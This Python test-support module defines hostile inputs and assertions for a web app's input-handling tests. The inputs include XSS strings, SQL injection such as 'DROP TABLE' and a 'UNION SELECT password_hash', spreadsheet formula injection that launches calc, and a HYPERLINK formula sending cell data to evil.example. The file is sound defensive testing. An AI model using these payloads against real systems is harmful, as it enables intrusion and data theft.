"""Hostile inputs shared by the test_hostile_input*.py modules: the text corpus, extreme
numbers and dates, and the checks that a refusal names its field and a page shows text inertly.
"""

import re

HOSTILE_TEXT = {
    "script": '<script>alert("x")</script>',
    "img_onerror": "<img src=x onerror=alert(1)>",
    "attribute_break": '" onmouseover="alert(1)" data-x="',
    "sql": "Robert'); DROP TABLE products;--",
    "sql_union": "' OR 1=1 UNION SELECT password_hash FROM users --",
    "formula_cmd": "=cmd|' /C calc'!A0",
    "formula_hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "formula_plus": "+1+1",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "zero_width": "Cà\u200bphê\u200d\u2060\ufeffRobusta",
    "combining": "Ca\u0300 phe\u0302\u0301" + "\u0301" * 40,
    "rtl_override": "\u202egpj.exe\u202c Cà phê",
    "mixed_direction": "قهوة Cà phê \u200f",
    "emoji": "Cà phê ☕️ 👩🏽‍🌾",
    "template": "{{ 7*7 }} {% raw %}${7*7}",
    "nul": "Cà phê\x00 nhân",
    "control": "Cà phê\x1b[31m\x07",
    "overlong": "Ầ" * 5000,
    "lone_surrogate": "Cà phê \ud800",
}


# Payloads a browser would act on if written into a page unescaped.
ACTIVE = ("script", "img_onerror", "attribute_break")

HUGE_NUMBERS = [10**30, 1e308, -1, -0.001, 0]

FAR_DATES = ["0001-01-01", "1000-01-01", "9999-12-31", "2999-01-01"]


def assert_refused(response, field: str | None = None) -> None:
    """A 4xx that says what is wrong (naming ``field`` when given), never a 5xx."""
    assert 400 <= response.status_code < 500, (response.status_code, response.data[:300])
    if response.is_json:
        body = response.json
        assert body["message"]
        if field is not None:
            assert any(key.split(".")[0] == field for key in body["errors"]), body


def assert_inert(html: str, payload: str) -> None:
    """The payload shows only as text: never raw markup, never an executable attribute."""
    if any(ch in payload for ch in '<>"'):
        assert payload not in html, "payload written into the page unescaped"
    # Our pages carry no script but our own files (CSP: script-src 'self'), empty elements.
    scripts = re.findall(r"<script\b[^>]*>.*?</script\s*>|<script\b", html, re.I | re.S)
    ours = re.compile(r'<script src="/static/[\w./-]+(?:\?[\w=&.-]*)?"></script>')
    assert all(ours.fullmatch(script) for script in scripts), scripts
    assert "<img src=x" not in html and ' onmouseover="alert' not in html
